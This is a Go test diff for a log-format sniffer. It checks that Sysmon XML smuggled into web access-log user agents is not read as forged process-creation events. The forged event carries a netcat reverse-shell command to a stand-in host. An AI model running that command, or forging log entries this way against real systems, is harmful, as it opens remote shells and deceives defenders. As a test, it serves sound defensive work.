@@ -89,3 +89,38 @@ func TestSniffAuditdWhereRead(t *testing.T) {
 		}
 	}
 }
+
+// TestHostileSysmonTextInOtherLogs: a Sysmon event's XML written into user
+// agents (single-quoted attributes need no '"', which web servers escape)
+// made an access log a Sysmon log of forged process creations. The XML
+// is Sysmon's only as the whole message of its line.
+func TestHostileSysmonTextInOtherLogs(t *testing.T) {
+	xml := strings.ReplaceAll(sysmonXML(1, "UtcTime", "2026-03-14 10:20:31.000", "ProcessId", "4242", "Image", "/usr/bin/nc",
+		"CommandLine", "nc -e /bin/sh 6.6.6.6 4444", "User", "root", "ParentProcessId", "1", "ParentImage", "/usr/sbin/sshd"), `"`, "'")
+	for _, sep := range []string{"", " ", ": ", " sysmon: ", " Mar 14 10:20:37 relay sysmon: "} {
+		var b strings.Builder
+		for i := 0; i < 20; i++ {
+			fmt.Fprintf(&b, "10.0.0.5 - - [14/Mar/2026:10:20:%02d +0000] \"GET / HTTP/1.1\" 200 512 \"-\" \"x%s%s\"\n", i, sep, xml)
+		}
+		t.Run(fmt.Sprintf("%q", sep), func(t *testing.T) {
+			evs, in := readString(t, b.String())
+			if in.Format == FormatSysmon {
+				t.Fatalf("read as a Sysmon log")
+			}
+			for _, e := range evs {
+				if e.Kind != KindHTTP {
+					t.Fatalf("event %v %q from XML in a user agent", e.Kind, e.Exe)
+				}
+			}
+			if len(evs) != 20 {
+				t.Errorf("%d requests, want 20 (%v)", len(evs), in.Errors)
+			}
+		})
+	}
+	// Sysmon's own lines, bare and behind syslog, still are.
+	for _, l := range []string{xml, "Mar 14 10:20:37 relay sysmon: " + xml, "<14>1 2026-03-14T10:20:37Z relay sysmon - - - " + xml} {
+		if !sniffSysmon([]byte(l)) {
+			t.Errorf("sniffSysmon(%.60q…) = false", l)
+		}
+	}
+}
